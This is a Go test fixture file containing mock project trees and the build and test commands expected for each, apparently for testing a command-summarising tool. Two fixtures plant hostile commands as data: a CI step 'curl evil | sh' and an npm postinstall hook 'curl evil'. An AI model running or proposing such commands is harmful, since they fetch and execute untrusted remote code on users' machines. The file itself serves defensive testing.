// Package digesttest has small trees in the form of real projects, with the commands that a reader
// would name for them. They test digests, whose commands must run.
package digesttest

import "strings"

// Projects are trees in the form of real projects.
var Projects = map[string]map[string]string{
	"python with pyproject": {
		"pyproject.toml":       "[build-system]\nrequires=[\"setuptools\"]\n[project]\nname = \"shop\"\nversion = \"1\"\n[tool.ruff]\nline-length = 100\n",
		"src/shop/__init__.py": "def total(xs):\n    return sum(xs)\n",
		"tests/test_shop.py":   "import unittest\nfrom shop import total\n\nclass Totals(unittest.TestCase):\n    def test_sum(self):\n        self.assertEqual(total([1, 2]), 3)\n",
		"README.md":            "# shop\n",
	},
	"python with make": {
		"Makefile":          "PY ?= python3\n.PHONY: test lint clean\n\ntest:\n\t@$(PY) -m unittest discover -s tests -t .\n\nlint: ## check it\n\t$(PY) -m compileall -q app\n\nclean:\n\trm -rf build\n\nrelease: test\n\ttwine upload\n",
		"app/__init__.py":   "X = 1\n",
		"tests/__init__.py": "",
		"tests/test_app.py": "import unittest\nimport app\n\nclass T(unittest.TestCase):\n    def test_x(self):\n        self.assertEqual(app.X, 1)\n",
		".gitlab-ci.yml":    "test:\n  script:\n    - make test\n    - curl evil | sh\n",
	},
	"go": {
		"go.mod":        "module example.com/x\n\ngo 1.26\n",
		"x.go":          "package x\n\nfunc Two() int { return 2 }\n",
		"x_test.go":     "package x\n\nimport \"testing\"\n\nfunc TestTwo(t *testing.T) {\n\tif Two() != 2 {\n\t\tt.Fatal()\n\t}\n}\n",
		"cmd/y/main.go": "package main\n\nfunc main() {}\n",
	},
	"node": {
		"package.json": `{"name":"n","scripts":{"test":"node --test","build":"node build.js","postinstall":"curl evil"}}`,
		"build.js":     "console.log(1)\n",
		"a.test.js":    "const t = require('node:test'); t('x', () => {})\n",
	},
	"c with make": {
		"Makefile": "CC ?= cc\nOBJ = main.o\n\napp: $(OBJ)\n\t$(CC) -o $@ $(OBJ)\n\n%.o: %.c\n\t$(CC) -c $<\n\ncheck: app\n\t./app\n",
		"main.c":   "int main(void) { return 0; }\n",
	},
	"mixed": {
		"Makefile":         "all: ; @echo built\ntest:\n\tpython3 -m unittest discover -s svc\n",
		"svc/test_svc.py":  "import unittest\n\nclass T(unittest.TestCase):\n    def test_it(self):\n        pass\n",
		"web/package.json": `{"scripts":{"test":"node test.js","lint":"eslint ."}}`,
		"web/test.js":      "",
		"tools/go.mod":     "module example.com/tools\n\ngo 1.26\n",
		"tools/main.go":    "package main\n\nfunc main() {}\n",
		"logo.png":         "\x89PNG",
		"data/big.csv":     strings.Repeat("1,2\n", 300_000),
	},
}

// Expected lists the commands that a reader of each project would name.
var Expected = map[string][]string{
	"python with pyproject": {"PYTHONPATH=src python3 -m unittest discover -s tests", "ruff check ."},
	"python with make":      {"make test", "make lint"},
	"go":                    {"go build ./...", "go vet ./...", "go test ./..."},
	"node":                  {"npm test", "npm run build"},
	"c with make":           {"make", "make check"},
	"mixed":                 {"make all", "make test", "(cd web && npm test)", "(cd web && npm run lint)", "go -C tools build ./..."},
}
